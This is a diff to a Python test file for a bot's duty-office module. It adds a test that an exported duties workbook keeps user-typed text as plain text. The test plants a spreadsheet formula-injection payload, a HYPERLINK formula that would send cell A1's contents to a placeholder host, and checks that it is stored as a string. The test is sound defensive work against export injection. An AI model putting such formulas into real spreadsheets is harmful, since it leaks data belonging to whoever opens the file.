@@ -4,13 +4,16 @@ units, switched-off duties, numbers typed in odd digits, over-long input and the
 from __future__ import annotations
 
 from datetime import UTC, datetime
+from io import BytesIO
 from typing import Any
 
+from openpyxl import load_workbook
 from sqlmodel import select
 
 from bot import callbacks as cb
 from db.campaigns import init_campaign
-from db.models import Department, OutboxMessage
+from db.ledger import NewItem, add_item
+from db.models import Department, LedgerSource, OutboxMessage
 from tests.handlers.test_duty_office import (
     ADMIN,
     EN,
@@ -19,6 +22,7 @@ from tests.handlers.test_duty_office import (
     file,
     office_bot,
     run_db,
+    unit_id,
 )
 from tests.harness import Harness, labels, texts
 
@@ -130,3 +134,30 @@ async def test_long_forms_and_words_are_answered_within_one_message(office_bot: 
     assert "No department has the code" in texts(await bot.say(ADMIN, "/ledger " + "x" * 4000))
     assert longest_sent(bot, ADMIN.id) <= 4096
     assert bot.api.violations == []
+
+
+async def test_the_workbook_names_periods_and_keeps_typed_text_as_text(
+    office_bot: Harness,
+) -> None:
+    bot = office_bot
+    await bot.say(ADMIN, THREE_UNITS)
+    await file(bot, "D011")
+    unit = await unit_id(bot, "D011")
+    trap = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    due = datetime(2026, 3, 31, 8, tzinfo=UTC)
+    await run_db(
+        bot,
+        lambda session: add_item(
+            session,
+            NewItem(unit, LedgerSource.inspection, trap, due),
+            actor_account_id=None,
+            now=bot.clock.now,
+        ),
+    )
+    await bot.say(ADMIN, "/export duties 2026-03-01 2026-03-31")
+    [path] = list((bot.settings.data_dir / "exports").glob("duties-20260301-20260331-*.xlsx"))
+    workbook = load_workbook(BytesIO(path.read_bytes()))
+    filed = list(workbook.worksheets[0].iter_rows(min_row=2))
+    assert {row[4].value for row in filed} == {EN("one-off")}
+    [item] = list(workbook.worksheets[1].iter_rows(min_row=2))
+    assert item[5].value == trap and item[5].data_type == "s"
